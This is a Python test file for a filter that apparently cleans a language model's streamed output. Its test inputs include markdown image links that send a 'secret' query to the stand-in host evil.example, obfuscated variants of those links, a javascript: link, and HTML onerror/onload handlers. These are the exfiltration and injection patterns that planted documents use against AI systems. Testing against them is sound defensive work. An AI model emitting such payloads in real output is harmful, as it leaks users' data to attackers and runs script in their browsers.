"""What documents plant stays text, however the model's text was cut."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nodes.answers.harmless import REMOVED, Harmless, harmless

PORTAL = "Sign in at https://portal.example/login?next=a, or call."


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/a.png?q=secret)", "![x]"),
        ("![x](<https://evil.example/a b.png>)", "![x]"),
        ("![x](//evil.example/a.png)", "![x]"),
        ("![x](\nhttps://evil.example/a.png\n)", "![x]"),
        ("![x](&#104;ttps&#58;&#47;&#47;evil.example)", "![x]"),
        ("[click](javascript:alert(1))", "[click])"),
        ("[1](https://evil.example)", "[1]"),
        ("![x][e]\n\n[e]: //evil.example/a.png", "![x][e]\n\n[e] : //evil.example/a.png"),
        ("See https://evil.example/?q=secret.", f"See {REMOVED['en']}."),
        ("See www.evil.example!", f"See {REMOVED['en']}!"),
        ("<https://evil.example>", f"<{REMOVED['en']}>"),
        ('<img src="//evil.example/a">', '‹img src="//evil.example/a">'),
        ("<IMG SRC=x onerror=y></a><svg/onload=z>", "‹IMG SRC=x onerror=y>‹/a>‹svg/onload=z>"),
        ("a<!-- hidden -->b", "a‹!-- hidden -->b"),
        ("` ![x](https://evil.example/a.png)", "` ![x]"),
        ("```\n![x](https://evil.example/a.png)\n```", "```\n![x]\n```"),
    ],
)
def test_nothing_that_a_page_would_fetch_or_run_is_left(written: str, shown: str) -> None:
    assert harmless(written, [PORTAL]) == shown


def test_an_address_that_the_passages_hold_is_shown_as_code() -> None:
    assert (
        harmless("Go to https://portal.example/login?next=a.", [PORTAL])
        == "Go to `https://portal.example/login?next=a`."
    )
    assert harmless("[portal](https://portal.example/login)", [PORTAL]) == (
        "[portal] (`https://portal.example/login`)"
    )
    code = "```\ncurl https://portal.example/login\n```"
    assert harmless(code, [PORTAL]) == code


def test_without_passages_any_address_may_be_told_but_stays_text() -> None:
    assert harmless("见https://docs.python.org/3/。", language="zh") == (
        "见`https://docs.python.org/3/`。"
    )
    assert (
        harmless("![x](https://docs.python.org/x.png)") == "![x] (`https://docs.python.org/x.png`)"
    )


def test_an_address_that_would_end_the_code_it_is_shown_as_goes() -> None:
    assert harmless("[x](https://docs.python.org/`<b>`)") == "[x]"


@pytest.mark.parametrize(
    "text",
    [
        "Vec<T> of x < y, f(x)[0](y) and a[i] = b; 3 <4> 5",
        "An array [a, b], a marker [1] and a file.name; 50% of http codes are 200",
        "中文：这是一句话！[1]（见第 3 节）",
    ],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text, [PORTAL]) == text


def test_a_word_is_held_back_only_while_it_may_become_an_address() -> None:
    guard = Harmless([PORTAL])
    assert guard.feed("The owner") == "The owner"
    assert guard.feed(" h") == " "
    assert guard.feed("as one") == "has one"
    assert guard.feed(" [1]") == " [1"
    assert guard.feed(".") == "]."


_PARTS = ["https://", "http", "://", "evil.example/a", "portal.example/login", "www.", "](", ")", "[",
          "]", "!", "<", "img", "/a>", "a", " ", "\n", "`", "```", "句", "。", "1", "://", "x" * 300, ":"]  # fmt: skip


@given(st.lists(st.sampled_from(_PARTS), max_size=24), st.data())
def test_what_comes_out_does_not_depend_on_how_it_was_cut(
    parts: list[str], data: st.DataObject
) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    guard = Harmless([PORTAL])
    pieces = [guard.feed(text[start:end]) for start, end in pairwise([0, *cuts, len(text)])]
    assert "".join([*pieces, guard.finish()]) == harmless(text, [PORTAL])
